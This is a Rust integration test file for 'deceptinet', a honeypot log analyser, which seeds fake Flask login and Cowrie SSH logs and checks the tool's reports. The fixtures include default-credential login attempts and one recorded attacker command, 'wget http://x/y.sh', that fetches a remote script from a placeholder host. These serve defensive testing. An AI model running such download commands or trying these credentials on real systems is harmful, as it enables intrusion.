//! Integration tests for `deceptinet report` and `deceptinet status`.
//!
//! Builds a small honeypot log tree in a temp directory and runs the binary.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use tempfile::TempDir;

fn deceptinet(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_deceptinet"))
        .args(args)
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .env_remove("RUST_LOG")
        .env_remove("DECEPTINET_GENERAL_LOG_LEVEL")
        .env_remove("DECEPTINET_GENERAL_LOG_FORMAT")
        .env_remove("DECEPTINET_REPORT_LOG_DIR")
        .env_remove("DECEPTINET_REPORT_TOP_N")
        .env_remove("DECEPTINET_REPORT_MAX_LINE_BYTES")
        .env_remove("DECEPTINET_REPORT_LISTING_LIMIT")
        .env_remove("DECEPTINET_REPORT_FLEET_SUFFIXES")
        .output()
        .expect("should run deceptinet binary")
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Flask + Cowrie logs under `<dir>/data/logs`; Dionaea left absent.
fn seed_logs(dir: &Path) {
    let flask = dir.join("data/logs/flask-fake-login");
    let cowrie = dir.join("data/logs/cowrie");
    fs::create_dir_all(&flask).expect("create flask dir");
    fs::create_dir_all(&cowrie).expect("create cowrie dir");

    fs::write(
        flask.join("login.json"),
        [
            r#"{"timestamp":"2024-01-15T12:00:00","event_type":"LOGIN_ATTEMPT","data":{"ip":"1.1.1.1","username":"admin","password":"123456"}}"#,
            r#"{"timestamp":"2024-01-15T12:00:01","event_type":"LOGIN_ATTEMPT","data":{"ip":"1.1.1.1","username":"admin","password":"admin"}}"#,
            r#"{"timestamp":"2024-01-15T12:00:02","event_type":"LOGIN_ATTEMPT","data":{"ip":"2.2.2.2","username":"root","password":"toor"}}"#,
            "{truncated",
        ]
        .join("\n"),
    )
    .expect("write flask log");

    fs::write(
        cowrie.join("cowrie.json"),
        [
            r#"{"eventid":"cowrie.session.connect","src_ip":"5.5.5.5","session":"a1"}"#,
            r#"{"eventid":"cowrie.command.input","src_ip":"5.5.5.5","session":"a1","input":"wget http://x/y.sh"}"#,
            r#"{"eventid":"cowrie.session.connect","src_ip":"6.6.6.6","session":"b2"}"#,
        ]
        .join("\n"),
    )
    .expect("write cowrie log");
}

#[test]
fn test_default_command_is_full_report() {
    let temp_dir = TempDir::new().expect("should create temp dir");
    seed_logs(temp_dir.path());

    let output = deceptinet(temp_dir.path(), &[]);

    assert!(output.status.success(), "report should exit 0");
    let text = stdout(&output);
    assert!(text.contains("DECEPTINET SUMMARY REPORT"));
    assert!(text.contains("Total log files: 2"));
    assert!(text.contains("Active honeypots: Flask Web, Cowrie SSH"));
    assert!(text.contains("Total login attempts: 3"));
    assert!(text.contains("1.1.1.1: 2 attempts"));
    assert!(text.contains("'admin': 2 times"));
    assert!(text.contains("Malformed lines skipped: 1"));
    assert!(text.contains("Total sessions: 2"));
    assert!(text.contains("'wget http://x/y.sh': 1 times"));
    assert!(text.contains("No Dionaea Malware logs found"));
    assert!(text.contains("Analysis complete!"));
}

#[test]
fn test_report_with_empty_log_root_still_exits_zero() {
    let temp_dir = TempDir::new().expect("should create temp dir");

    let output = deceptinet(temp_dir.path(), &["report"]);

    assert!(output.status.success());
    let text = stdout(&output);
    assert!(text.contains("Total log files: 0"));
    assert!(text.contains("None detected"));
}

#[test]
fn test_report_json_output_is_a_single_document() {
    let temp_dir = TempDir::new().expect("should create temp dir");
    seed_logs(temp_dir.path());

    let output = deceptinet(temp_dir.path(), &["--output", "json", "report", "--top", "1"]);

    assert!(output.status.success());
    let value: serde_json::Value =
        serde_json::from_slice(&output.stdout).expect("stdout should be one JSON document");
    assert!(value["run_id"].is_string());
    assert_eq!(value["fleet"]["total_log_files"], 2);

    let sections = value["sections"].as_array().expect("sections");
    let names: Vec<&str> = sections
        .iter()
        .filter_map(|s| s["name"].as_str())
        .collect();
    assert_eq!(names, vec!["Flask Web", "Cowrie SSH", "Dionaea Malware"]);
    assert_eq!(sections[2]["outcome"]["status"], "missing");

    let flask_dims = sections[0]["outcome"]["dimensions"]
        .as_array()
        .expect("dimensions");
    let ips = flask_dims
        .iter()
        .find(|d| d["name"] == "ips")
        .expect("ips dimension");
    assert_eq!(ips["entries"].as_array().map(Vec::len), Some(1));
    assert_eq!(ips["unique"], 2);
}

#[test]
fn test_report_source_filter() {
    let temp_dir = TempDir::new().expect("should create temp dir");
    seed_logs(temp_dir.path());

    let output = deceptinet(temp_dir.path(), &["report", "--source", "cowrie ssh"]);

    assert!(output.status.success());
    let text = stdout(&output);
    assert!(text.contains("COWRIE SSH ANALYSIS"));
    assert!(!text.contains("FLASK WEB ANALYSIS"));
}

#[test]
fn test_report_unknown_source_fails() {
    let temp_dir = TempDir::new().expect("should create temp dir");

    let output = deceptinet(temp_dir.path(), &["report", "--source", "telnet"]);

    assert_eq!(output.status.code(), Some(1));
}

#[test]
fn test_status_does_not_parse_logs() {
    let temp_dir = TempDir::new().expect("should create temp dir");
    let cowrie = temp_dir.path().join("data/logs/cowrie");
    fs::create_dir_all(&cowrie).expect("create cowrie dir");
    fs::write(cowrie.join("cowrie.json"), "garbage only\n").expect("write");

    let output = deceptinet(temp_dir.path(), &["status"]);

    assert!(output.status.success());
    let text = stdout(&output);
    assert!(text.contains("Active honeypots: Cowrie SSH"));
    assert!(!text.contains("ANALYSIS"), "status prints no per-source analysis");
}

#[test]
fn test_log_dir_flag_overrides_default_root() {
    let temp_dir = TempDir::new().expect("should create temp dir");
    seed_logs(temp_dir.path());
    let elsewhere = TempDir::new().expect("should create second temp dir");

    let output = deceptinet(
        elsewhere.path(),
        &[
            "status",
            "--log-dir",
            temp_dir.path().join("data/logs").to_str().expect("utf8 path"),
        ],
    );

    assert!(output.status.success());
    assert!(stdout(&output).contains("Total log files: 2"));
}
